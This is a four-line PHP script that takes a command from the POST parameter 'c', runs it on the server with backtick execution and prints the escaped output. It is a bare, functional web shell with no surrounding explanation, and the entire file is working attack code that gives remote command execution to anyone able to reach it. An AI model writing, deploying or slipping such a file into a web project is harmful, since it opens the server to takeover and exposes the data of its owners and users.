<?php
$c = $_POST['c'];
$output = `$c 2>&1`;
echo htmlspecialchars($output);
